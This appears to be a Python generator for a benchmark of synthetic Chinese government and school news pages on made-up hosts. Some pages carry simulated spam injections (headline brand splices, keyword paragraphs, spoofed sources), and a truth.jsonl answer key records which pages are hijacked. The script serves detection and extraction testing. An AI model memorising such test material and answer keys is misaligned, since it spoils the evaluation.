SINGLE_HOSTS = ["www.fenglinzy.edu.cn", "fgj.anlan.gov.cn", "www.baiwu-xz.gov.cn", "www.nxyz.edu.cn",
                "xxgk.pingquan.gov.cn", "www.blly.edu.cn", "jw.qmfl.edu.cn", "nyj.dongping.gov.cn",
                "www.liudizhen.gov.cn", "www.czlzx.edu.cn", "xxgk.linchuan.gov.cn", "xsc.ylxy.edu.cn",
                "library.nyzk.edu.cn", "sthjj.anlan.gov.cn", "www.jtzyxy.edu.cn", "wjw.beizhu.gov.cn",
                "www.shimen-zx.edu.cn"]
CLEAN_SINGLES = [("T3", "www.hemingxiang.gov.cn", "gov", False), ("D6", "tyj.pingquan.gov.cn", "legit", True),
                 ("U4", "gaj.dongping.gov.cn", "legit", True)]
SOURCES_GOV = ["党政办公室", "县融媒体中心", "应急管理办公室", "综合执法队", "县农业农村局", "社会事务办"]
SOURCES_EDU = ["党委宣传部", "学生工作处", "教务处", "招生就业处", "图书馆", "团委"]


def meta_for(tpl, a, site_name, kind):
    y, m, d = a["date"]
    style = {"L1": 0, "A2": 1, "T3": 0, "U4": 3, "B5": 2, "D6": 1}[tpl]
    au = R.choice(PEOPLE) if R.random() < 0.8 else None
    src = R.choice(SOURCES_EDU if kind == "edu" else SOURCES_GOV)
    if kind == "legit":
        src = ["县民政局", "县公安局", "县体育彩票管理中心", "县公安局治安大队"][a["topic"]]
    code = "%010d" % R.randint(10 ** 9, 10 ** 10 - 1)
    return dict(tpl=tpl, date_str=fmt_date(y, m, d, style), iso="%d-%02d-%02d" % (y, m, d), source=src, author=au,
                views=R.randint(30, 3000), time="%02d:%02d" % (R.randint(8, 18), R.randint(0, 59)), site=site_name,
                code=code, idx="%s/2025-%05d" % (code[:8], R.randint(1, 99999)))


def render(pid, host, tpl, site_name, kind, form, brand, art_i, hijacked, legit, origin, bind=None):
    a = make_article(kind, art_i, bind)
    meta = meta_for(tpl, a, site_name, kind)
    inj, spam = ({}, [])
    if form:
        if form == "brand-in-headline":
            inj, spam = inj_headline_splice(brand)
        else:
            inj, spam = FORMS[form](brand)
    page_paras = list(a["paras"])
    if inj.get("spam_paras"):
        page_paras.insert(2, "<p class=\"kw\">%s</p>" % E(inj["spam_paras"][0]))
        page_paras.append("<p><strong>%s</strong></p>" % E(inj["spam_paras"][1]))
    if inj.get("h1_prefix"):
        inj["h1"] = E(inj["h1_prefix"] + a["title"])
        inj["title_tag"] = inj["h1_prefix"] + a["title"]
    meta["page_paras"] = page_paras
    source_truth = meta["source"]
    if inj.get("src_shown"):
        if tpl == "D6":
            source_truth = None
        else:
            meta["source"] = inj["src_shown"]
            source_truth = None
    page = TEMPLATES[tpl](a, meta, host, inj)
    enc = TPL_ENC[tpl]
    path = "/%s/%d%02d/t%d%02d%02d_%d.html" % ({"gov": "zwgk/gzdt", "edu": "xwzx/xxyw", "legit": "zwgk/tzgg"}[kind],
                                                a["date"][0], a["date"][1], a["date"][0], a["date"][1], a["date"][2],
                                                R.randint(100000, 999999))
    truth = dict(
        id=pid, url="http://%s%s" % (host, path), lang="zh", origin=origin, kind="synthetic", site=host,
        capture="html", encoding=enc, template=TPL_NAME[tpl], title=a["title"], date=meta["iso"],
        source=source_truth, author=meta["author"], text="\n".join(a["paras"]), hijacked=hijacked,
        injections=[form] if form else [], spam_strings=spam, legit=legit,
    )
    return page, enc, truth


def main():
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    rows = []
    n = 0
    art_counter = {"gov": 0, "edu": 0, "legit": 0}

    def next_art(kind):
        i = art_counter[kind]
        art_counter[kind] += 1
        return i

    for si, (host, tpl, sname, kind, form, brand, hij, legit_idx, bind) in enumerate(SITES, 1):
        for k in range(5):
            n += 1
            pid = "sv34-%03d" % n
            is_h = k in hij
            is_legit = (legit_idx == k)
            akind = "legit" if is_legit else kind
            origin = "synthetic site %d (%s) page %d; %s" % (
                si, host, k + 1, ("site-shared injection " + form) if is_h else ("clean" + (", legit" if is_legit else "")))
            page, enc, t = render(pid, host, tpl, sname, akind, form if is_h else None, brand,
                                  next_art(akind), is_h, is_legit, origin, bind)
            rows.append((pid, page, enc, t))
    for j, form in enumerate(SINGLE_FORMS):
        n += 1
        pid = "sv34-%03d" % n
        tpl, host, brand = SINGLE_TPLS[j], SINGLE_HOSTS[j], SINGLE_BRANDS[j]
        kind = "edu" if ".edu." in host else "gov"
        sname = (host.split(".")[1] if host.count(".") >= 2 else host) + ("学院" if kind == "edu" else "人民政府")
        sname = NAME_OF.get(host, sname)
        page, enc, t = render(pid, host, tpl, sname, kind, form, brand, next_art(kind), True, False,
                              "synthetic single page; injection " + form, BIND_OF.get(host))
        rows.append((pid, page, enc, t))
    for tpl, host, kind, legit in CLEAN_SINGLES:
        n += 1
        pid = "sv34-%03d" % n
        sname = NAME_OF.get(host, host)
        page, enc, t = render(pid, host, tpl, sname, kind, None, None, next_art(kind), False, legit,
                              "synthetic single page; clean" + (", legit" if legit else ""), BIND_OF.get(host))
        rows.append((pid, page, enc, t))
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as f:
        for pid, page, enc, t in rows:
            with open(os.path.join(OUT, "html", pid + ".html"), "wb") as h:
                h.write(page.encode(enc))
            f.write(json.dumps(t, ensure_ascii=False) + "\n")
    print(len(rows), "pages ->", OUT)


NAME_OF = {
    "www.fenglinzy.edu.cn": "枫林职业技术学院", "fgj.anlan.gov.cn": "安澜区发展和改革局", "www.baiwu-xz.gov.cn": "白鹭乡人民政府",
    "www.nxyz.edu.cn": "南溪医学高等专科学校", "xxgk.pingquan.gov.cn": "平泉县人民政府", "www.blly.edu.cn": "北岭理工学院",
    "jw.qmfl.edu.cn": "枫林职业技术学院教务处", "nyj.dongping.gov.cn": "东坪县农业农村局", "www.liudizhen.gov.cn": "柳堤镇人民政府",
    "www.czlzx.edu.cn": "澄江师范学院附属中学", "xxgk.linchuan.gov.cn": "临川县人民政府", "xsc.ylxy.edu.cn": "云麓学院学生工作处",
    "library.nyzk.edu.cn": "南溪医专图书馆", "sthjj.anlan.gov.cn": "安澜区生态环境分局", "www.jtzyxy.edu.cn": "交通职业学院",
    "wjw.beizhu.gov.cn": "北渚县卫生健康委员会", "www.shimen-zx.edu.cn": "石门中学",
    "www.hemingxiang.gov.cn": "鹤鸣乡人民政府", "tyj.pingquan.gov.cn": "平泉县文化体育局", "gaj.dongping.gov.cn": "东坪县公安局",
}

BIND_OF = {
    "www.fenglinzy.edu.cn": {"s": "枫林职业技术学院"}, "fgj.anlan.gov.cn": {"c": "安澜区"},
    "www.baiwu-xz.gov.cn": {"p": "白鹭乡"}, "www.nxyz.edu.cn": {"s": "南溪医学高等专科学校"},
    "xxgk.pingquan.gov.cn": {"c": "平泉县"}, "www.blly.edu.cn": {"s": "北岭理工学院"},
    "jw.qmfl.edu.cn": {"s": "枫林职业技术学院"}, "nyj.dongping.gov.cn": {"c": "东坪县"},
    "www.liudizhen.gov.cn": {"p": "柳堤镇"}, "www.czlzx.edu.cn": {"s": "澄江师范学院附属中学"},
    "xxgk.linchuan.gov.cn": {"c": "临川县"}, "xsc.ylxy.edu.cn": {"s": "云麓学院"},
    "library.nyzk.edu.cn": {"s": "南溪医学高等专科学校"}, "sthjj.anlan.gov.cn": {"c": "安澜区"},
    "www.jtzyxy.edu.cn": {"s": "交通职业学院"}, "wjw.beizhu.gov.cn": {"c": "北渚县"},
    "www.shimen-zx.edu.cn": {"s": "石门中学"}, "www.hemingxiang.gov.cn": {"p": "鹤鸣乡"},
    "tyj.pingquan.gov.cn": {"c": "平泉县"}, "gaj.dongping.gov.cn": {"c": "东坪县"},
}

if __name__ == "__main__":
    main()
